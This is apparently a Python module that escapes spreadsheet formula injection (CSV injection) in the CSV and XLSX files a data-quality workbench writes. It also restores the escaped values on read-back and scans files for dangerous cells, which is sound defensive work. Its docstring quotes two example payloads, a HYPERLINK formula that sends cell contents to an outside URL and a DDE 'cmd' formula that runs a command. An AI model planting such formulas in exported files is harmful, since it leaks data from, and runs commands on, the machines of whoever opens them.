"""Formula-injection ("CSV injection") neutralising for every csv and xlsx the workbench writes.

Layer: core (no import from the rest of the package).

Why: ``observations.csv``, ``history.csv``, ``findings.csv``, the ``me validate --findings``
file and ``scorecard.xlsx`` are opened in Excel or LibreOffice by the people the data-quality
report addresses. A text cell written as ``=HYPERLINK("http://x?"&A1, "click")`` or
``=cmd|' /C calc'!A0`` — text a department typed into a note, a sheet name, a file name — is run
as a formula there. OWASP's rule: a text cell that begins with ``=``, ``+``, ``-``, ``@``, tab or
carriage return is prefixed with a single quote ``'`` so the spreadsheet shows it as text.

What is changed, and what is not:

* csv: only *text* values change, and only on the way out. Numbers stay numbers (a float
  column with ``-3.5`` is written as ``-3.5``: a number is not a formula, and the analysis reads
  it back as a number). A text value ``s`` that matches ``^'*[=+\\-@\\t\\r]`` is written as
  ``"'" + s``; every other value is written unchanged. The leading quotes in the pattern make the
  rule reversible: a text that already begins with ``'=`` is written ``''=`` and read back as
  ``'=``. :func:`restore` (and :func:`read_csv`, which applies it to every text column) removes
  exactly one quote from values matching ``^'+[=+\\-@\\t\\r]``, giving back the stored value.
  So ``read_csv(path)`` of a file written by :func:`to_csv_bytes` equals the frame written
  (the round trip is tested), and ``pd.read_csv`` alone shows what Excel shows.
* xlsx: openpyxl would write a ``str`` beginning with ``=`` as a formula. :func:`neutralise_workbook`
  makes every such cell a plain text cell (``data_type = "s"``) and sets the cell style's
  ``quotePrefix`` flag — Excel's own escape, shown as a leading ``'`` in the formula bar, kept
  when the cell is edited — so the stored text is unchanged and reads back as itself.
"""

from __future__ import annotations

import io
import os
import re

import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula (OWASP CSV injection).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NEEDS = re.compile(r"^'*[=+\-@\t\r]")
_ESCAPED = re.compile(r"^'+[=+\-@\t\r]")


def neutralise(value):
    """Return ``value`` safe for a spreadsheet cell: a ``str`` matching ``^'*[=+-@\\t\\r]`` gets a
    leading ``'``; anything else (numbers, None, other text) is returned unchanged."""
    if isinstance(value, str) and _NEEDS.match(value):
        return "'" + value
    return value


def restore(value):
    """Inverse of :func:`neutralise`: drop one leading ``'`` from a ``str`` matching
    ``^'+[=+-@\\t\\r]``; anything else is returned unchanged."""
    if isinstance(value, str) and _ESCAPED.match(value):
        return value[1:]
    return value


def is_dangerous(value) -> bool:
    """True for a ``str`` a spreadsheet would take for a formula (begins with a trigger)."""
    return isinstance(value, str) and value[:1] in TRIGGERS


def _text_columns(df: pd.DataFrame) -> list:
    # object columns may mix text and numbers; string dtype columns hold text only.
    return [c for c in df.columns if df[c].dtype == object or pd.api.types.is_string_dtype(df[c].dtype)]


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with :func:`neutralise` applied to the text cells of text columns.

    Numeric, boolean and date columns are left as they are; the column names are neutralised too.
    """
    out = df.copy()
    for c in _text_columns(out):
        s = out[c]
        mask = pd.Series([isinstance(v, str) and bool(_NEEDS.match(v)) for v in s], index=s.index)
        if mask.any():
            out[c] = s.astype(object).where(~mask, s[mask].map(neutralise))
            if s.dtype != object:
                out[c] = out[c].astype(s.dtype)
    out.columns = [neutralise(c) for c in out.columns]
    return out


def restore_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with :func:`restore` applied to every text cell (inverse of
    :func:`neutralise_frame` for frames read back from csv)."""
    out = df.copy()
    for c in _text_columns(out):
        s = out[c]
        mask = pd.Series([isinstance(v, str) and bool(_ESCAPED.match(v)) for v in s], index=s.index)
        if mask.any():
            out[c] = s.astype(object).where(~mask, s[mask].map(restore))
            if s.dtype != object:
                out[c] = out[c].astype(s.dtype)
    out.columns = [restore(c) for c in out.columns]
    return out


def to_csv_text(df: pd.DataFrame, **kwargs) -> str:
    """``df.to_csv`` of :func:`neutralise_frame` (``index=False`` and ``\\n`` line ends unless
    given)."""
    kwargs.setdefault("index", False)
    kwargs.setdefault("lineterminator", "\n")
    return neutralise_frame(df).to_csv(**kwargs)


def to_csv_bytes(df: pd.DataFrame, encoding: str = "utf-8", **kwargs) -> bytes:
    """UTF-8 bytes of :func:`to_csv_text`."""
    return to_csv_text(df, **kwargs).encode(encoding)


def read_csv(path_or_buffer, **kwargs) -> pd.DataFrame:
    """``pd.read_csv`` then :func:`restore_frame`: reads a csv the workbench wrote back to the
    values it stored. Accepts every ``pd.read_csv`` keyword argument."""
    if isinstance(path_or_buffer, (bytes, bytearray)):
        path_or_buffer = io.BytesIO(path_or_buffer)
    return restore_frame(pd.read_csv(path_or_buffer, **kwargs))


def neutralise_workbook(wb) -> int:
    """Make every text cell of an openpyxl workbook that begins with a trigger a plain text cell
    with Excel's ``quotePrefix`` flag set. Returns how many cells were changed.

    Cells written with a deliberate formula (``data_type == "f"`` and no trigger-free reason to
    doubt it) are the caller's business: call this *before* writing formulas of your own, or pass
    only workbooks without intended formulas. The workbench's workbooks hold none.
    """
    n = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                v = cell.value
                if isinstance(v, str) and v[:1] in TRIGGERS:
                    cell.value = v
                    cell.data_type = "s"
                    cell.quotePrefix = True
                    n += 1
    return n


def scan_csv(path: str | os.PathLike) -> list[tuple[int, int, str]]:
    """Cells of a csv file that a spreadsheet would run as formulas: ``(row, column, first
    characters)``, 1-based rows counting the header. For tests and audits."""
    import csv

    bad = []
    with open(path, encoding="utf-8-sig", newline="") as fh:
        for i, row in enumerate(csv.reader(fh), start=1):
            for j, v in enumerate(row, start=1):
                if is_dangerous(v) and not _is_number(v):
                    bad.append((i, j, v[:10]))
    return bad


def _is_number(text: str) -> bool:
    # "-3.5" in a csv is a number cell in Excel, not a formula.
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text.lower() not in ("nan", "inf", "-inf", "+inf", "infinity", "-infinity")
